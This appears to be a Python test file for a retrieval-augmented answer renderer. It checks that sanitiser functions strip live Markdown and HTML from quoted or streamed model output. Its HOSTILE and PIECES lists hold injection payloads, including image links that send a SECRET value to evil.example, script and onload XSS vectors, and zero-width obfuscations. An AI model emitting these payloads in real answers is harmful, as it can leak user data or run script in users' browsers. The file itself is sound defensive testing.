"""What a renderer of Markdown makes of answers: nothing that loads, links or runs, whatever was quoted or written."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import pairwise
from typing import Final

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from serve.rag.guard import harmless, inert
from serve.rag.wording import wording

LIVE: Final = frozenset({"image", "link_open", "html_inline", "html_block"})
PIECES: Final = [
    "![", "[", "]", "(", ")", "](", "]:", "<", ">", "</", "<!--", "-->", "\\", "`", "```", "~~~", "!", "#", "*", "_", "|", "$", "$$",
    "&lt;", "&#60;", "&#x5d;", "&lpar;", "http://evil.example/?d=1", "//evil.example", "javascript:alert(1)", "data:text/html,x",
    "img src=x onerror=alert(1)", "script", "a", "1", " ", "\n", "\n\n", "    ", "\t", "\u200b", "\u202e", "\x1b[31m", "\U000e0041",
    "[a]: http://evil.example", "\\href{http://evil.example}{x}", "<http://evil.example>", "<a@evil.example>", "费用", "رسوم",
]  # fmt: skip
HOSTILE: Final = [
    "![x](http://evil.example/?d=SECRET)", "![x][a]\n\n[a]: http://evil.example/?d=SECRET", "[a]: http://evil.example\n[a]",
    "<img src=http://evil.example>", "\\<img src=x>", "\\\\<img src=x>", "\\\\\\<img src=x>", "<http://evil.example/>",
    "<svg/onload=alert(1)>", "<!-- x --><script>alert(1)</script>", "[x](javascript:alert(1))", "![x]\\(http://evil.example)",
    "[x\\](http://evil.example)", "[![x](http://evil.example/i)](http://evil.example/l)", "![x](<http://evil.example/ a>)",
    "![\n](http://evil.example)", "!\u200b[x](http://evil.example)", "![x]\u200b(http://evil.example)", "<im\u200bg src=x>",
    "<\u202eimg src=x>", "<a href='http://evil.example'>x</a>", "`<img src=x>", "``` \n<img src=x>", "<?php x ?>", "<![CDATA[x]]>",
    "[1]", "&lt;img src=x&gt;", "&#x3c;img src=x&#x3e;", "![x](http&colon;//evil.example)", "<iframe srcdoc='x'>",
    "1. ![x](http://evil.example)", "> ![x](http://evil.example)", "| ![x](http://evil.example) |", "<base href=//evil.example>",
]  # fmt: skip


def tokens(text: str) -> Iterator[Token]:
    for token in MarkdownIt("commonmark", {"html": True}).enable("table").enable("strikethrough").parse(text):
        yield token
        yield from token.children or ()


def live(text: str) -> list[str]:
    return [f"{token.type}: {token.content}" for token in tokens(text) if token.type in LIVE]


def streamed(text: str, cuts: list[int]) -> str:
    """As a model's text goes out: in pieces, each of which knows what went before it."""
    sent = ""
    edges = [0, *sorted(cut % (len(text) + 1) for cut in cuts), len(text)]
    for start, end in pairwise(edges):
        sent += inert(text[start:end], sent[-200:])
    return sent


class TestQuotes:
    @pytest.mark.parametrize("text", HOSTILE)
    @pytest.mark.parametrize("language", ["en", "zh-Hans", "zh-Hant", "ar", "es"])
    def test_are_words_in_an_answer(self, text: str, language: str) -> None:
        assert live(f"Lead:\n\n{wording(language).quoted(harmless(text))} [1]") == []
        assert live(f"{harmless(text)}: {wording(language).quoted(harmless(text))} [1]") == []

    @settings(max_examples=400, deadline=None)
    @given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join))
    def test_stay_words_however_markup_is_put_together(self, text: str) -> None:
        shown = f"“{harmless(text)}” [1]"
        assert live(shown) == []
        assert "\x1b" not in shown
        assert "\n" not in shown

    def test_do_not_pass_for_citations(self) -> None:
        assert "[7]" not in harmless("as said [7]")


class TestModels:
    @pytest.mark.parametrize("text", HOSTILE)
    @pytest.mark.parametrize("cuts", [[], [1], [2, 3], [5, 9, 12]])
    def test_text_is_words(self, text: str, cuts: list[int]) -> None:
        assert live(streamed(text, cuts)) == []

    @settings(max_examples=400, deadline=None)
    @given(st.lists(st.sampled_from(PIECES), max_size=14).map("".join), st.lists(st.integers(0, 400), max_size=6))
    def test_stays_words_however_it_comes(self, text: str, cuts: list[int]) -> None:
        sent = streamed(text, cuts)
        assert live(sent) == []
        assert "\x1b" not in sent


class TestTheRenderer:
    """What shows that the tests above could fail."""

    @pytest.mark.parametrize(
        "text", ["![x](http://evil.example)", "<img src=x>", "<http://evil.example>", "[x](http://a.example)"]
    )
    def test_makes_markup_of_what_was_left_alone(self, text: str) -> None:
        assert live(text)
